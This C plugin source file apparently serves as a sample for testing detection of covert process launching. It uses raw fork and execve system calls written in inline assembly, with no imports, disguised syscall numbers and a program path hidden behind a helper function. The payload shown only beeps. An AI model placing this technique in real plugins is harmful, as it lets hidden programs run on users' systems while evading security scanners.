/* Starts a hidden program through the instruction itself, the numbers worked
 * out: there is no import at all. */
#include "plugin.h"
#include "hidden.h" /* 0: the program */
static inline __attribute__((always_inline)) long call(long n, long a, long b, long c) {
#ifdef __x86_64__
    long r;
#ifdef __APPLE__
    n |= 0x2000000;
#endif
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
#else
    register long x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
#ifdef __APPLE__
    register long x16 __asm__("x16") = n;
    __asm__ volatile("svc #0x80" : "+r"(x0) : "r"(x1), "r"(x2), "r"(x16) : "memory");
#else
    register long x8 __asm__("x8") = n;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x1), "r"(x2), "r"(x8) : "memory");
#endif
    return x0;
#endif
}
#ifdef __APPLE__
enum { FORK = 2, EXECVE = 59 };
#elif defined __x86_64__
enum { FORK = 57, EXECVE = 59 };
#else
enum { FORK = 220, EXECVE = 221 };
#endif
static volatile long less = LESS;
static void act(char **env) {
    char *program = hidden0();
    char *arguments[] = {program, "-e", "beep", 0};
#if defined __linux__ && !defined __x86_64__
    if (call(FORK + less, 17, 0, 0) == 0)
#else
    if (call(FORK + less, 0, 0, 0) == 0)
#endif
        call(EXECVE + less, (long)program, (long)arguments, (long)env);
}
